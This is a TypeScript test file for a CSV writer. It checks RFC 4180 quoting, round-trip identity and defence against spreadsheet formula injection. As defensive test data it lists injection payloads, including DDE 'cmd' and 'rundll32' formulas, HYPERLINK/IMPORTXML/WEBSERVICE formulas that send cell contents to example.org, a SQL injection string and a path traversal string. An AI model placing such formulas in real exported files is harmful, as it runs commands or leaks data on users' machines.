import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { text } from 'node:stream/consumers';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { hasSamples, readCsv, sampleFolder } from './csv-fixture.ts';
import { csvLine, writeCsv } from './write-csv.ts';

const RUNS_IN_A_SPREADSHEET = /^(?:[\t\r\n]|\s*[=+@＝＋－＠]|\s*-(?!\d))/;

/** What is executed where a cell is taken for a formula. */
const FORMULAS = [
  '=1+1',
  '=SUM(A1:A9)',
  "=cmd|' /C notepad'!A0",
  '=HYPERLINK("http://example.org/?x="&A1,"look")',
  '=IMPORTXML(CONCAT("http://example.org/",A2),"//a")',
  '=WEBSERVICE("http://example.org")',
  '+1+2',
  "+rundll32|'URL.dll,OpenURL notepad.exe'!A",
  "-2+3+cmd|' /C notepad'!A0",
  '-A1',
  '@SUM(1+1)',
  "@SUM(1+1)*cmd|' /C notepad'!A0",
  '＝1+1',
  '＋1',
  '－A1',
  '＠SUM(A1)',
];
const BEFORE_FORMULAS = ['', ' ', '   ', '\t', '\r', '\n', '\u00A0'];

/** What other programs stumble over: quotes, line ends, words that mean something, directions, joiners, markup, paths. */
const TROUBLESOME = [
  ...['', ' ', '"', '""', '"""', "'", "''", ',', ';', '|', '\t', '\\', '\\"', '\n', '\r', '\r\n', '\n\n', '\u0085'],
  ...['null', 'NULL', 'undefined', 'true', 'NaN', '-0', '0x10', '1e999', '1,000.00', '00', '1/2', '2026-02-30'],
  ...[
    '\u200B',
    '\u200F',
    '\u202Eabc',
    '\u2028',
    '\uFEFF',
    'e\u0301',
    'ﬃ',
    'İı',
    'ß',
    '𝒜',
    '🦉',
    '👩‍🏫',
    '日本',
    'العربية',
  ],
  ...['<b>x</b>', '&amp;', "'; drop table users; --", '{{x}}', '%s%d', '../../etc/passwd', 'C:\\con', 'a\u0007b'],
  ...['sep=;', '#', '# x', '--', '- x', '-1', '+', '@', '=', "'=1", "''=1", '`', '\u00A0', 'x'.repeat(10_000)],
];

/** The first table is written, read, and must come back the same. NUL cannot be stored: left out. */
async function expectIdentity(rows: readonly (readonly string[])[]): Promise<void> {
  const header = (rows[0] ?? []).map((_, i) => `c${String(i)}`);
  const { rows: read } = await readCsv(writeCsv(header, rows));
  expect(read.map((row) => row.cells)).toEqual(rows);
  expect(read.every((row) => row.fault === undefined)).toBe(true);
}

describe('writeCsv', () => {
  it('writes RFC 4180 with CRLF, and a byte order mark when asked', async () => {
    const rows = [['a,b', 'say "hi"', 3, true, null, new Date(0), ['x', 'y']]];
    expect(await text(writeCsv(['h'], rows))).toBe(
      'h\r\n"a,b","say ""hi""",3,true,,1970-01-01T00:00:00.000Z,"x;y"\r\n',
    );
    const { dialect } = await readCsv(writeCsv(['é'], [['1']], { bom: true }));
    expect(dialect).toMatchObject({ hasBom: true, encoding: 'utf-8', lineEnding: 'crlf' });
  });

  it.each([
    ['=1+1', "'=1+1"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['+4915112345678', "'+4915112345678"],
    ['-2+3', "'-2+3"],
    ['  =1', "'  =1"],
    ['-12.5', '-12.5'],
    ["'=1", "''=1"],
    ["O'Neill", "O'Neill"],
    ["'t Hart", "'t Hart"],
  ])('%j is written as %s [BO-198]', (cell, written) => {
    expect(csvLine([cell])).toBe(`${written}\r\n`);
  });

  it('reading back what was written is the identity for every text', async () => {
    const cell = fc.oneof(
      fc.string({ unit: 'binary' }),
      fc.string({ unit: fc.constantFrom("'", '=', '+', '-', '"', ',', ';', '\r', '\n', '\t', ' ', '1', 'é') }),
    );
    const stored = cell.map((value) => value.replaceAll('\0', ''));
    await fc.assert(
      fc.asyncProperty(
        fc
          .integer({ min: 1, max: 4 })
          .chain((width) =>
            fc.array(fc.array(stored, { minLength: width, maxLength: width }), { minLength: 1, maxLength: 8 }),
          ),
        expectIdentity,
      ),
      { numRuns: 300 },
    );
  });

  it('text that breaks other programs comes back as it was', async () => {
    await expectIdentity(TROUBLESOME.map((value) => [value, 'x']));
  });

  it('no formula leaves the writer alive, whatever stands before it, and each comes back as it was [BO-198]', async () => {
    const all = FORMULAS.flatMap((formula) => BEFORE_FORMULAS.map((before) => before + formula));
    for (const formula of all) expect(csvLine([formula]).replace(/^"/, '')).not.toMatch(RUNS_IN_A_SPREADSHEET);
    await expectIdentity(all.map((formula) => [formula, 'x']));
  });

  it.skipIf(!hasSamples)('naughty strings come back as they were', async () => {
    const path = join(sampleFolder, 'naughty-strings/blns.json');
    const strings = z.array(z.string()).parse(JSON.parse(readFileSync(path, 'utf8')));
    await expectIdentity(strings.map((value) => [value.replaceAll('\0', ''), 'x']));
  });

  it.skipIf(!hasSamples)('no formula payload leaves the writer alive', async () => {
    const payloads = readFileSync(join(sampleFolder, 'csv-injection/README.md'), 'utf8')
      .split('\n')
      .map((line) => line.trim());
    const dangerous = payloads.filter((line) => /^[=+\-@]/.test(line));
    expect(dangerous.length).toBeGreaterThan(10);
    for (const payload of dangerous) {
      const written = csvLine([payload]).replace(/^"/, '');
      expect(written).not.toMatch(RUNS_IN_A_SPREADSHEET);
    }
    await expectIdentity(payloads.map((payload) => [payload]));
  });
});
